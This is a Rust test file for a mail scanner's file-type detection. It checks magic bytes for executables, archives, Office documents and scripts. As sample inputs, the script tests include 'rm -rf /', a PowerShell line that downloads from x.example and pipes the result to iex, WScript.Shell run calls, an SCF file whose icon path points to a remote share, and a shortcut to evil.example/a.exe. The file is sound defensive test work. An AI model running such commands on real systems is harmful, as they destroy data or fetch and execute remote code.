@@ -1,0 +1,301 @@
+//! What files are by content and by name: samples by bytes, real files from the corpus.
+
+#![allow(clippy::unwrap_used)] // A test says by it what it takes for granted.
+
+use congthu::mail::{Family, FileType};
+use proptest::prelude::*;
+use std::io::{Cursor, Write};
+use zip::write::SimpleFileOptions;
+
+/// A PE of 64 or 32 bits, program or library.
+fn pe(wide: bool, library: bool) -> Vec<u8> {
+    let mut bytes = vec![0; 0x80];
+    bytes[..2].copy_from_slice(b"MZ");
+    bytes[0x3c] = 0x80;
+    bytes.extend_from_slice(b"PE\0\0\x4c\x01\x01\0");
+    bytes.extend_from_slice(&[0; 12]);
+    bytes.extend_from_slice(&[0xe0, 0, 0x02, if library { 0x21 } else { 0x01 }]);
+    bytes.extend_from_slice(if wide { b"\x0b\x02" } else { b"\x0b\x01" });
+    bytes.resize(512, 0);
+    bytes
+}
+
+/// A zip of these members.
+fn zip(members: &[(&str, &[u8])]) -> Vec<u8> {
+    let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
+    for (name, bytes) in members {
+        writer.start_file(*name, SimpleFileOptions::default()).unwrap();
+        writer.write_all(bytes).unwrap();
+    }
+    writer.finish().unwrap().into_inner()
+}
+
+/// An OLE file with these streams.
+fn ole(streams: &[&str]) -> Vec<u8> {
+    let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
+    for stream in streams {
+        file.create_stream(format!("/{stream}")).unwrap().write_all(&[1; 5000]).unwrap();
+    }
+    file.flush().unwrap();
+    file.into_inner().into_inner()
+}
+
+/// Bytes at an offset of an otherwise empty file.
+fn at(offset: usize, magic: &[u8], length: usize) -> Vec<u8> {
+    let mut bytes = vec![0; length];
+    bytes[offset..offset + magic.len()].copy_from_slice(magic);
+    bytes
+}
+
+fn content_types(main: &str) -> String {
+    format!(
+        "<?xml version=\"1.0\"?><Types><Override ContentType=\"application/vnd.{main}+xml\"/></Types>"
+    )
+}
+
+#[track_caller]
+fn is(bytes: &[u8], extension: &str) {
+    let found = FileType::detect(bytes);
+    let head = String::from_utf8_lossy(&bytes[..bytes.len().min(40)]).into_owned();
+    assert_eq!(found.extension, extension, "{found:?} for {head:?}");
+}
+
+#[test]
+fn programs_are_known() {
+    is(&pe(false, false), "exe");
+    is(&pe(true, true), "dll");
+    assert_eq!(FileType::detect(&pe(false, false)).describe(&pe(false, false)), "PE32 executable");
+    assert_eq!(FileType::detect(&pe(true, true)).describe(&pe(true, true)), "PE32+ library (DLL)");
+    is(&at(0, b"MZ\x90\0\x03", 100), "dos");
+    is(&at(0, b"\x7fELF\x02\x01\x01", 100), "elf");
+    is(&at(0, b"\xcf\xfa\xed\xfe", 100), "mach");
+    is(b"\xca\xfe\xba\xbe\0\0\0\x34\0\x10", "class");
+    is(b"\xca\xfe\xba\xbe\0\0\0\x02\x01\0\0\x07", "mach");
+    is(b"\0asm\x01\0\0\0", "wasm");
+    is(&at(0, b"dex\n035\0", 200), "dex");
+    is(b"MZ is what Mark Zbikowski wrote at the front of each program that he linked.", "txt");
+}
+
+#[test]
+fn shortcuts_installers_and_images_are_executables() {
+    let samples: &[(Vec<u8>, &str)] = &[
+        (at(0, b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46", 100), "lnk"),
+        (at(0, b"ITSF\x03\0\0\0", 100), "chm"),
+        (at(0x8001, b"CD001", 0x9000), "iso"),
+        (at(0, b"vhdxfile", 600), "vhdx"),
+        (at(4096, b"conectix", 4096 + 512), "vhd"),
+        (at(4096, b"koly", 4096 + 512), "dmg"),
+        (
+            at(510, b"\x55\xaa", 1024)
+                .into_iter()
+                .enumerate()
+                .map(|(i, b)| if (54..57).contains(&i) { b"FAT"[i - 54] } else { b })
+                .collect(),
+            "img",
+        ),
+        (b"!<arch>\ndebian-binary   1410122664".to_vec(), "deb"),
+        (at(0, b"\xed\xab\xee\xdb\x03", 100), "rpm"),
+        (at(0, b"xar!\0\x1c", 100), "pkg"),
+        (zip(&[("META-INF/MANIFEST.MF", b"Main-Class: A")]), "jar"),
+        (zip(&[("AndroidManifest.xml", b"\x03"), ("classes.dex", b"dex")]), "apk"),
+        (zip(&[("AppxManifest.xml", b"<Package/>"), ("[Content_Types].xml", b"")]), "msix"),
+        (ole(&["\u{4840}\u{3f7f}\u{4164}"]), "msi"),
+        (b"[InternetShortcut]\r\nURL=file://evil.example/a.exe\r\n".to_vec(), "url"),
+        (b"[Desktop Entry]\nType=Application\nExec=sh -c id\n".to_vec(), "desktop"),
+    ];
+    for (bytes, extension) in samples {
+        is(bytes, extension);
+        assert_eq!(FileType::detect(bytes).family, Family::Executable, "{extension}");
+    }
+}
+
+#[test]
+fn archives_are_known() {
+    let mut tar = tar::Builder::new(Vec::new());
+    let mut header = tar::Header::new_old();
+    header.set_path("a.txt").unwrap();
+    header.set_size(3);
+    header.set_cksum();
+    tar.append(&header, &b"abc"[..]).unwrap();
+    is(&tar.into_inner().unwrap(), "tar");
+    is(&zip(&[("a.txt", b"abc")]), "zip");
+    is(b"\x1f\x8b\x08\0\0\0\0\0\0\x03", "gz");
+    is(b"BZh91AY&SY\0", "bz2");
+    is(b"\xfd7zXZ\0\0\x04", "xz");
+    is(b"7z\xbc\xaf\x27\x1c\0\x04", "7z");
+    is(b"Rar!\x1a\x07\x01\0", "rar");
+    is(b"\x28\xb5\x2f\xfd\x04", "zst");
+    is(b"\x04\x22\x4d\x18\x64", "lz4");
+    is(b"MSCF\0\0\0\0\x44", "cab");
+    is(b"\x1f\x9d\x90\x61", "z");
+    is(b"\x1c\x5d-lh5-\0\0\0\0", "lzh");
+    is(b"\x60\xea\x2c\0\x22", "arj");
+    is(&at(7, b"**ACE**", 60), "ace");
+    is(b"\x78\x9f\x3e\x22\x01\0\x01", "tnef");
+    // Unzip programs read from the end: junk before a zip, or text, hides nothing.
+    is(&[b"just a letter\n".as_slice(), &zip(&[("a.exe", b"MZ")])].concat(), "zip");
+    let whole = zip(&[("a.txt", &[b'x'; 4000]), ("b.txt", b"abc")]);
+    is(&whole[..whole.len() - 60], "zip");
+}
+
+#[test]
+fn documents_are_known() {
+    let odt = "application/vnd.oasis.opendocument.text";
+    let samples: &[(Vec<u8>, &str)] = &[
+        (b"%PDF-1.7\n".to_vec(), "pdf"),
+        ([&[0, 1, 2, 3].repeat(50)[..], b"%PDF-1.4\n"].concat(), "pdf"),
+        ([b"hello\n%PDF-1.4\n".as_slice(), b"startxref\n0\n%%EOF"].concat(), "pdf"),
+        (b"a letter that says %PDF-1.4 within".to_vec(), "txt"),
+        (b"{\\rt\\anything".to_vec(), "rtf"),
+        (ole(&["WordDocument", "1Table"]), "doc"),
+        (ole(&["Workbook"]), "xls"),
+        (ole(&["Book"]), "xls"),
+        (ole(&["PowerPoint Document"]), "ppt"),
+        (ole(&["__properties_version1.0"]), "msg"),
+        (ole(&["EncryptionInfo", "EncryptedPackage"]), "ooxml"),
+        (ole(&["anything"]), "ole"),
+        (zip(&[("mimetype", odt.as_bytes()), ("content.xml", b"<a/>")]), "odt"),
+        (at(0, b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3", 64), "one"),
+    ];
+    for (bytes, extension) in samples {
+        is(bytes, extension);
+    }
+    for (main, extension) in [
+        ("openxmlformats-officedocument.wordprocessingml.document.main", "docx"),
+        ("openxmlformats-officedocument.spreadsheetml.sheet.main", "xlsx"),
+        ("openxmlformats-officedocument.presentationml.presentation.main", "pptx"),
+        ("ms-word.document.macroEnabled.main", "docm"),
+        ("ms-excel.sheet.macroEnabled.main", "xlsm"),
+        ("ms-excel.addin.macroEnabled.main", "xlam"),
+    ] {
+        let types = content_types(main);
+        // The order of members is the writer's own.
+        is(
+            &zip(&[("docProps/app.xml", b"<a/>"), ("[Content_Types].xml", types.as_bytes())]),
+            extension,
+        );
+    }
+    let types = content_types("openxmlformats-officedocument.wordprocessingml.document.main");
+    is(&zip(&[("[Content_Types].xml", types.as_bytes()), ("word/vbaProject.bin", b"x")]), "docm");
+}
+
+#[test]
+fn scripts_are_known() {
+    let scripts: &[(&str, &str)] = &[
+        ("#!/bin/sh\nrm -rf /\n", "sh"),
+        ("#!/usr/bin/env python3\nprint(1)\n", "py"),
+        ("@echo off\r\nstart calc\r\n", "bat"),
+        ("\u{feff}@ECHO OFF\r\n", "bat"),
+        ("setlocal\r\nset A=%~dp0\r\nstart %A%\\x.exe\r\nexit /b\r\n", "bat"),
+        ("$c = New-Object Net.WebClient\n$c.DownloadString('http://x.example') | iex\n", "ps1"),
+        ("Dim s\r\nSet s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"\r\n", "vbs"),
+        ("var s = new ActiveXObject(\"WScript.Shell\");\ns.Run('calc');\n", "js"),
+        ("<?xml version='1.0'?><job id='a'><script language='JScript'>1</script></job>", "wsf"),
+        ("<html><HTA:APPLICATION id='a'><script>1</script></html>", "hta"),
+        ("<?xml version='1.0'?><scriptlet><registration/></scriptlet>", "sct"),
+        ("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_LOCAL_MACHINE]\r\n", "reg"),
+        ("[Version]\r\nSignature=\"$CHICAGO$\"\r\n", "inf"),
+        ("[Shell]\r\nCommand=2\r\nIconFile=\\\\x.example\\a.ico\r\n", "scf"),
+        ("#@~^XAAAAA==", "vbe"),
+    ];
+    for (text, extension) in scripts {
+        is(text.as_bytes(), extension);
+        let wide: Vec<u8> = "\u{feff}"
+            .encode_utf16()
+            .chain(text.encode_utf16())
+            .flat_map(u16::to_le_bytes)
+            .collect();
+        is(&wide, extension);
+    }
+}
+
+#[test]
+fn prose_is_no_script() {
+    for text in [
+        "Kính gửi: Ủy ban nhân dân xã Bình An.",
+        "Please start the program, set the clock and call me.\nrem is short for remark.\n",
+        "To stop echoes, write @echo off at the top of a batch file.",
+        "You could use CreateObject(\"WScript.Shell\") as in VBScript, new ActiveXObject in JScript.",
+        "function of the committee: to set rules.\nSet a date.\n",
+        "#!!! urgent !!!\nread this",
+        "#![allow(dead_code)]",
+        "From: here to there, to: whom, and other: prose.",
+        "BM is a bank in Myanmar",
+        "MAC address list",
+        "ID3 tags",
+        "0707070 is my number",
+    ] {
+        is(text.as_bytes(), "txt");
+    }
+}
+
+#[test]
+fn texts_are_known() {
+    is(b"From: a@x.example\r\nTo: b@x.example\r\nSubject: hi\r\n\r\nhi\r\n", "eml");
+    is(
+        b"From a@x.example Mon Jan 1 00:00:00 2024\nFrom: a@x.example\nDate: x\nTo: b\n\nhi\n",
+        "mbox",
+    );
+    is(b"<!DOCTYPE html><html><body>hi</body></html>", "html");
+    is(b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"/>", "svg");
+    is(b"<?xml version=\"1.0\"?><a/>", "xml");
+    is(b"BEGIN:VCALENDAR\r\n", "ics");
+    is(b"", "");
+    assert_eq!(FileType::detect(b""), FileType::EMPTY);
+    // TCVN3, VNI and VISCII bytes are text; so is UTF-16 without its mark.
+    is(b"k\xddnh g\xf6i: \xf1y ban nh\xa9n d\xa9n x\xb7 B\xd7nh An", "txt");
+    is(&"a plain line\r\n".encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>(), "txt");
+    is(&[0, 1, 2, 200, 17, 0, 0, 9], "");
+}
+
+#[test]
+fn names_promise() {
+    for (extension, family) in [
+        ("EXE", Family::Executable),
+        ("scr", Family::Executable),
+        ("lnk", Family::Executable),
+        ("iso", Family::Executable),
+        ("library-ms", Family::Executable),
+        ("jar", Family::Executable),
+        ("ps1", Family::Script),
+        ("js", Family::Script),
+        ("hta", Family::Script),
+        ("pdf", Family::Document),
+        ("docx", Family::Document),
+        ("png", Family::Picture),
+        ("zip", Family::Archive),
+        ("txt", Family::Text),
+        ("eml", Family::Mail),
+        ("mp3", Family::Audiovisual),
+    ] {
+        assert_eq!(
+            FileType::by_extension(extension).map(|t| t.family),
+            Some(family),
+            "{extension}"
+        );
+    }
+    assert_eq!(FileType::by_extension("vnn"), None);
+    assert_eq!(FileType::by_mime("Application/X-Zip-Compressed").unwrap().extension, "zip");
+    assert_eq!(FileType::by_mime("application/octet-stream"), None);
+}
+
+proptest! {
+    #[test]
+    fn any_bytes_have_a_type(bytes in proptest::collection::vec(any::<u8>(), 0..2000)) {
+        FileType::detect(&bytes).describe(&bytes);
+    }
+
+    #[test]
+    fn mutated_containers_have_a_type(which in 0usize..3, at in any::<usize>(), byte in any::<u8>(), cut in any::<usize>()) {
+        let types = content_types("ms-excel.sheet.macroEnabled.main");
+        let mut bytes = match which {
+            0 => zip(&[("[Content_Types].xml", types.as_bytes()), ("xl/a.xml", b"x")]),
+            1 => ole(&["Workbook", "\u{4840}\u{3f7f}"]),
+            _ => pe(true, false),
+        };
+        let at = at % bytes.len();
+        bytes[at] = byte;
+        bytes.truncate(bytes.len() - cut % bytes.len());
+        FileType::detect(&bytes).describe(&bytes);
+    }
+}
